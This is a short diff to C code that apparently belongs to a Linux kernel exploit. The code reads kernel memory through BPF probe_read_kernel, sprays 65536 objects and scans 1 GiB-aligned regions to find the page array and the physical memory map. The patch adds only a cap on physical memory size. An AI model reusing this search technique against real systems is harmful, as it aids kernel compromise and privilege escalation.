@@ -14,6 +14,7 @@
 #define ALIGNED (1ULL << 30)
 #define PAGE_SIZE 4096
 #define PAGE_DESCRIBED 64 /* bytes of struct page */
+#define MEMORY_MOST 1024  /* GiB: more take long to try, and reach far beyond what is mapped */
 #define SENT 65536	  /* so many that most of them are in pages */
 #define SEEN 64		  /* of these, that are compared */
 #define READ_KERNEL BPF_FUNC_probe_read_kernel
@@ -109,6 +110,8 @@ static int search(int reader, int map, const struct found *found, const uint8_t 
 	uint64_t gib = (uint64_t)sysconf(_SC_PHYS_PAGES) * PAGE_SIZE / ALIGNED + 1;
 	uint64_t array = found->page & ~(ALIGNED - 1), memory = found->head & ~(ALIGNED - 1);
 
+	if (gib > MEMORY_MOST)
+		return -ENOENT;
 	/* Twice the memory there is: there are holes in it. */
 	for (uint64_t i = 0; i <= 2 * gib * PAGE_DESCRIBED / PAGE_SIZE; i++) {
 		for (uint64_t k = 0; k <= 2 * gib; k++) {
